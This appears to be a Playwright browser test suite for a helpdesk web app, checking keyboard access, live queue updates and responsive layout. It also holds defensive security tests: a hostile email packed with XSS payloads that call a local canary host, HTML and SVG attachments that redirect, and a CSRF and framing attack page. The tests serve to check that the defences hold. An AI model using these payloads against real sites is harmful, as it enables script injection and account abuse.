/**
 * The web view in a real Chromium: a person signs in and works a ticket by keyboard alone, wide and narrow; a hostile
 * mail runs nothing and asks for nothing; an open queue shows a new ticket by itself. What is evaluated here only looks.
 */
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { test } from 'uvu'
import * as assert from 'uvu/assert'
import { raiseNotice } from '../../src/engine/notices.ts'
import { after, HOUR, MINUTE } from '../../src/time.ts'
import { startWeb } from '../../src/web/server.ts'
import { createLoginLink } from '../../src/web/session.ts'
import { testDatabase } from '../database.ts'
import { NOON, webDesk } from '../web/desk.ts'
import { closeBrowsers, openBrowser } from './chromium.ts'

const database = await testDatabase()
const { sql } = database
const desk = await webDesk(sql)
const server = await startWeb(desk.web, { host: '127.0.0.1', port: 0 })
desk.web.config.url = server.address
const browser = await openBrowser()
/** Counts what anybody asks of it: the outside world. */
const canary = await startCanary()

test.after(async () => {
  await closeBrowsers()
  canary.stop()
  await server.stop()
  await database.close()
})

const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs+9AAAAFUlEQVR42mNk+M9Qz0AEYBxVSF+FABJADveWkH6oAAAAAElFTkSuQmCC',
  'base64',
)
const look = <T>(page: Page, script: string) => page.evaluate<T>(script)

test('by keyboard alone: sign in, find a ticket, answer it, undo', async () => {
  const { id } = await desk.addTicket({
    organization: 'acme',
    project: 'acme/incoming',
    subject: 'The printer is down',
  })
  const page = await browser.newPage()
  const secret = await createLoginLink(sql, { agentId: desk.ada.id, lifetime: HOUR }, NOON)
  await page.goto(`${server.address}/sign-in/${secret}`)
  for (let n = 0; n < 100 && (await focused(page)) !== 'Sign in on this device'; n++) await page.waitForTimeout(20)
  await page.keyboard.press('Enter') // the button has the focus by itself
  await page.waitForURL('**/queues/open')
  await page.keyboard.press('Tab')
  assert.is(await focused(page), 'Skip to the content')
  await page.keyboard.press('Enter')
  await tabTo(page, 'The printer is down')
  await page.keyboard.press('Enter')
  await page.waitForURL(`**/tickets/${id}`)
  await tabTo(page, 'Answer')
  await page.keyboard.press('Enter')
  await tabTo(page, 'kind')
  await page.keyboard.press('Tab')
  assert.is(await focused(page), 'text')
  await page.keyboard.type('It works again.')
  await tabTo(page, 'status')
  await page.keyboard.press('r') // Resolved
  await tabTo(page, 'Save')
  await page.keyboard.press('Enter')
  await page.waitForURL('**/tickets/*?done=answer*')
  assert.match(await page.innerText('main'), /It works again\.[\s\S]*Goes out in 60 s to eva@acme\.example\./)
  const [ticket] = await sql`select status from tickets where id = ${id}`
  assert.is(ticket!.status, 'resolved')
  await tabTo(page, 'Undo this answer')
  await page.keyboard.press('Enter')
  await page.waitForURL('**done=undone*')
  assert.is((await sql`select state from outbox where ticket_id = ${id}`)[0]!.state, 'cancelled')
  await page.close()
})

test('an open queue shows a new ticket without a reload, and the focus and the place stay', async () => {
  for (let n = 0; n < 40; n++) await desk.addTicket({ subject: `Old ${n}` })
  const page = await browser.newPage()
  const told: string[] = []
  page.on('console', (message) => told.push(message.text()))
  page.on('pageerror', (error) => told.push(error.message))
  const [name, value] = (await desk.signIn(desk.ada)).cookie.split('=')
  await browser.addCookies([{ name: name!, value: value!, url: server.address }])
  await page.goto(`${server.address}/queues/open`)
  const old = "[...document.querySelectorAll('a')].find((one) => one.textContent === 'Old 30')"
  await look(page, `${old}.focus({ preventScroll: true })`)
  const place = await look<number>(page, "scrollTo({ top: 200, behavior: 'instant' }), (window.here = true), scrollY")
  assert.is(place, 200)
  await desk.addTicket({ subject: 'It came meanwhile' })
  const started = performance.now()
  await page.waitForSelector('text=It came meanwhile', { state: 'attached', timeout: 5000 })
  assert.ok(performance.now() - started < 5000)
  assert.is(await focused(page), 'Old 30')
  assert.is(await look<number>(page, 'scrollY'), place)
  assert.is(await look<boolean>(page, 'window.here'), true, 'the page was not loaded again')
  assert.equal(told, [])
  await page.close()
  await sql`update tickets set status = 'closed' where subject like 'Old %'`
})

/** Where agents enter what nobody mailed. */
const ENTERING = ['/tickets/new', '/contacts/new', '/blocked', '/search?q=printer', '/notifications']

test('every page fits 1280 and 390 pixels, and every field and button has a name and a visible focus', async () => {
  const id = await fullTicket()
  await raiseNotice(sql, { kind: 'relay_down', words: `The relay is down: ${'x'.repeat(300)}` }, NOON)
  const page = await browser.newPage()
  for (const width of [1280, 390]) {
    await page.setViewportSize({ width, height: 844 })
    for (const at of [
      '/queues/open',
      `/tickets/${id}`,
      '/held',
      '/outbox',
      '/sessions',
      '/sign-in',
      '/tickets/0',
      ...ENTERING,
    ]) {
      await page.goto(server.address + at)
      assert.is(await look<number>(page, 'document.documentElement.scrollWidth'), width, `${at} at ${width}`)
      assert.equal(await look<string[]>(page, UNNAMED), [], `${at} at ${width}`)
      assert.equal(await unseen(page), [], `${at} at ${width}`)
    }
  }
  await page.close()
})

test('a hostile mail runs nothing, asks for nothing, and cannot reach the desk, without the sanitiser too', async () => {
  const { id, commentId } = await desk.addTicket({ subject: 'Hostile', html: hostile(canary.address) })
  await desk.attach({ ticketId: id, commentId }, { name: 'logo.png', bytes: PNG, contentId: 'logo' })
  const page = await browser.newPage()
  let dialogs = 0
  page.on('dialog', (dialog) => {
    dialogs++
    void dialog.dismiss()
  })
  await page.goto(`${server.address}/tickets/${id}`)
  assert.not.ok(
    page.frames().some((frame) => frame.url().includes('/frame')),
    'it is loaded only when it is asked for',
  )
  await page.click('text=As it was formatted')
  const frame = await framed(page)
  assert.match(await frame.innerText('#words'), 'Dear desk')
  assert.is(
    await frame.locator('#logo').evaluate((img) => (img as unknown as { naturalWidth: number }).naturalWidth),
    10,
  )
  await page.waitForTimeout(1500)
  assert.match(await page.title(), 'Hostile')
  assert.is(page.url(), `${server.address}/tickets/${id}`)
  assert.is(new URL(frame.url()).pathname, `/comments/${commentId}/frame`)

  await page.goto(`${server.address}/comments/${commentId}/frame`)
  await page.waitForTimeout(1500)
  assert.is(new URL(page.url()).pathname, `/comments/${commentId}/frame`)
  assert.is(dialogs, 0)
  assert.equal(canary.asked, [])
  const [ticket] = await sql`select status from tickets where id = ${id}`
  assert.is(ticket!.status, 'new')
  await page.close()
})

test('attached pages and drawings are downloads, also when they are asked to be shown', async () => {
  const { id, commentId } = await desk.addTicket()
  const place = { ticketId: id, commentId }
  const html = Buffer.from(`<script>location = '${canary.address}'</script>`)
  const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="location='${canary.address}'"/>`)
  const page = await browser.newPage()
  for (const [name, bytes, type] of [
    ['a.html', html, 'text/html'],
    ['a.png', html, 'image/png'],
    ['a.svg', svg, 'image/svg+xml'],
  ] as const) {
    const file = await desk.attach(place, { name, bytes, type })
    const started = page.waitForEvent('download')
    await page.goto(`${server.address}/attachments/${file}?view=1`).catch(() => {}) // a download aborts the navigation
    const download = await started
    assert.is(download.suggestedFilename(), name)
    await download.delete()
  }
  assert.equal(canary.asked, [])
  await page.close()
})

test('another site cannot make the browser act here', async () => {
  const { id } = await desk.addTicket()
  const page = await browser.newPage()
  await page.goto(`${canary.address}/attack?to=${encodeURIComponent(`${server.address}/tickets/${id}/work`)}`)
  await page.click('button')
  await page.waitForURL(`${server.address}/**`)
  // SameSite=Lax leaves the cookie at home, and the origin is refused before that matters.
  assert.match(await page.innerText('main'), 'Not from here')
  assert.is((await sql`select count(*)::int as n from comments where ticket_id = ${id}`)[0]!.n, 1)
  await page.goto(`${canary.address}/frame?of=${encodeURIComponent(`${server.address}/queues/open`)}`)
  const inner = page.frames()[1]
  assert.not.match((await inner?.content().catch(() => '')) ?? '', 'All open')
  canary.asked.length = 0
  await page.close()
})

test.run()

/** A script that lists the controls without a name. */
const UNNAMED = `[...document.querySelectorAll('input:not([type=hidden]),select,textarea,button,a,iframe')]
  .filter((e) => !(e.labels?.length || e.textContent.trim() || e.title || e.getAttribute('aria-label')))
  .map((e) => e.outerHTML)`

/** The words or name of what has the focus. */
const focused = (page: Page) =>
  look<string>(
    page,
    `(() => { const e = document.activeElement; return e.name || e.textContent.trim().replace(/\\s+/g, ' ') })()`,
  )

/** Tabs once through the page; what had the focus without showing it, and nothing at all where Tab reaches nothing. */
async function unseen(page: Page): Promise<string[]> {
  const hidden: string[] = []
  for (let n = 0; n < 80; n++) {
    await page.keyboard.press('Tab')
    const at = await look<{ name: string; shown: boolean } | null>(
      page,
      `(() => { const e = document.activeElement
        if (!e || e === document.body) return null
        const shown = ['', '::after'].some((part) => getComputedStyle(e, part || null).outlineStyle === 'solid')
        const box = e.getBoundingClientRect()
        return { name: e.outerHTML.slice(0, 120), shown: shown && box.width > 1 && box.height > 1 } })()`,
    )
    if (at === null) return n === 0 ? ['nothing can be reached'] : hidden
    if (!at.shown) hidden.push(at.name)
  }
  return hidden
}

async function tabTo(page: Page, wanted: string): Promise<void> {
  const passed: string[] = []
  for (let n = 0; n < 60; n++) {
    await page.keyboard.press('Tab')
    const at = await focused(page)
    if (at === wanted) return
    passed.push(at)
  }
  throw new Error(`Tab never reached ${wanted}: ${passed.join(' | ')}`)
}

async function framed(page: Page) {
  for (let n = 0; n < 100; n++) {
    const frame = page.frames().find((one) => one.url().includes('/frame'))
    if (frame) return frame
    await page.waitForTimeout(50)
  }
  throw new Error('the frame never came')
}

/** A ticket with everything that may be too wide. */
async function fullTicket(): Promise<number> {
  const word = 'Donaudampfschifffahrtsgesellschaft'.repeat(6)
  const { id, commentId } = await desk.addTicket({
    subject: `${word} ${word}`,
    text: `${word}\n\nhttps://x.example/${word}`,
    html: `<table width="2000"><tr><td>${word}</td></tr></table>`,
    requester: { name: word, address: `${word}@acme.example` },
    at: after(NOON, -90 * MINUTE),
    organization: 'acme',
  })
  await desk.attach({ ticketId: id, commentId }, { name: `${word}.pdf`, bytes: Buffer.from('%PDF-1.4') })
  await desk.addComment(id, { text: word, automatic: true })
  await desk.addComment(id, { text: word, visibility: 'internal' })
  await sql`update tickets set tags = ${[word]} where id = ${id}`
  for (const state of ['held', 'quarantined'])
    await sql`
      insert into inbound_mails (received_at, due_at, via, recipients, bytes, state, subject, from_address, reasons)
      values (${NOON}, ${NOON}, 'mx', ${sql.json([{ address: `${word}@x.example`, inbox: null, tag: null }])}, 1, ${state}, ${word},
        ${word}, ${sql.json([{ code: word, words: word }])})`
  await sql`
    insert into outbox (kind, priority, ticket_id, message_id, date_at, envelope_from, recipient, headers, subject, text, state,
      last_answer, next_try_at, expires_at, created_at)
    values ('ack', 1, ${id}, 'a@desk.example', ${NOON}, 'b@desk.example', ${`${word}@x.example`}, '[]', ${word}, 't', 'deferred',
      ${word}, ${NOON}, ${NOON}, ${NOON})`
  return id
}

function hostile(outside: string): string {
  return `<p id="words">Dear desk</p><img id="logo" src="cid:logo">
    <script>alert(1); top.document.title = 'taken'; fetch('${outside}/script'); top.location = '${outside}/top'</script>
    <script src="${outside}/script.js"></script>
    <img src="${outside}/image.png" srcset="${outside}/set.png 2x"><img src="x" onerror="alert(2)">
    <link rel="stylesheet" href="${outside}/style.css"><link rel="prefetch" href="${outside}/prefetch">
    <link rel="dns-prefetch" href="${outside}"><link rel="preconnect" href="${outside}">
    <style>@import url(${outside}/import.css); @font-face { font-family: x; src: url(${outside}/font) }
      body { background: url(${outside}/background); font-family: x }</style>
    <meta http-equiv="refresh" content="0;url=${outside}/refresh"><base href="${outside}/">
    <iframe src="${outside}/frame"></iframe><object data="${outside}/object"></object><embed src="${outside}/embed">
    <video src="${outside}/video" poster="${outside}/poster" autoplay></video><audio src="${outside}/audio" autoplay></audio>
    <form id="f" action="/tickets/1/work" method="post"><input name="text" value="x" autofocus onfocus="this.form.submit()"></form>
    <svg onload="alert(3)"><use href="${outside}/use.svg#x"/><image href="${outside}/svg.png"/></svg>
    <math><mtext><style><img src=x onerror=alert(4)></style></mtext></math>
    <a id="l" href="javascript:alert(5)" target="_top" ping="${outside}/ping">x</a><details open ontoggle="alert(6)">x</details>
    <iframe srcdoc="&lt;script&gt;parent.parent.document.title='x'&lt;/script&gt;"></iframe>`
}

/** A site of somebody else's: it notes what is asked of it, and can attack. */
async function startCanary() {
  const asked: string[] = []
  const http = createServer((request, response) => {
    const url = new URL(request.url ?? '/', 'http://canary')
    asked.push(url.pathname)
    response.setHeader('Content-Type', 'text/html')
    if (url.pathname === '/attack')
      response.end(`<form method="post" action="${url.searchParams.get('to')}"><input name="kind" value="note">
        <input name="text" value="planted"><button>Win</button></form>`)
    else response.end(`<iframe src="${url.searchParams.get('of') ?? 'about:blank'}"></iframe>`)
  })
  await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve))
  return {
    // Another site to the browser, so that SameSite counts.
    address: `http://localhost:${(http.address() as AddressInfo).port}`,
    asked,
    stop() {
      http.close()
      http.closeAllConnections()
    },
  }
}
